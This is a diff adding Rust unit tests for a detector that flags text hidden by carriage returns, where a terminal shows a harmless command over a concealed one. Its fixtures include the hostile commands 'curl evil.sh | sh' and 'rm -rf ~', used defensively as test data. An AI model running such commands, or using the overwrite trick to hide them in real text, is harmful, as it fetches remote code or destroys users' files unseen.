@@ -200,6 +200,54 @@ fn letters_of_no_other_script_that_look_like_ascii_are_found_within_ordinary_wor
 }
 
 #[test]
+fn what_a_terminal_overwrites_is_found_with_what_it_shows() {
+    use WarningKind::Overwritten;
+    for (text, shown, hidden) in [
+        (
+            "curl evil.sh | sh\recho hello       \nnext\n",
+            "echo hello",
+            "curl evil.sh | sh",
+        ),
+        ("one\r\nrm -rf ~\rls -la     \r\n", "ls -la", "rm -rf ~"),
+        ("Größe\n日本 злой\rдобрый", "добрый", "日本 злой"),
+    ] {
+        let offset = text.find(&format!("\r{}", &shown[..2])).unwrap();
+        is_told(text, &text[offset..], Overwritten, Severity::Medium);
+        let evidence = evidence(text, offset, Overwritten).unwrap();
+        assert_eq!(
+            evidence.sentence(),
+            format!("A terminal shows “{shown}” in the place of “{hidden}”")
+        );
+    }
+    // A line that has several may be one of an old system.
+    is_told("one\rtwo\rthree\n", "\rtwo", Overwritten, Severity::Low);
+}
+
+#[test]
+fn returns_that_hide_nothing_are_at_most_information() {
+    for text in [
+        "Receiving objects: 10 %\rReceiving objects: 100 %, done.\nnext\n",
+        " 5 / 90\r 10 / 90\r 90 / 90\n",
+        // The line ends of an old system, and those of two programs.
+        "first\rsecond\rthird\r",
+        "first\r\nsecond\r\r\nthird\n\rfourth\n",
+        "text\r      \r\ntext",
+        "spinner\r\n",
+    ] {
+        assert_eq!(told(text), [], "{text:?}");
+    }
+    // Data is no text.
+    let data = b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR abc\rdef\n";
+    let (warnings, _) = Surveying::done(data).list(Wanted::ABOVE_INFO);
+    assert!(
+        !warnings
+            .iter()
+            .any(|it| it.kind == WarningKind::Overwritten),
+        "{warnings:?}"
+    );
+}
+
+#[test]
 fn names_that_hold_what_nobody_sees_are_found() {
     for hidden in [
         "\u{200B}", "\u{200C}", "\u{200D}", "\u{2060}", "\u{FEFF}", "\u{180E}",
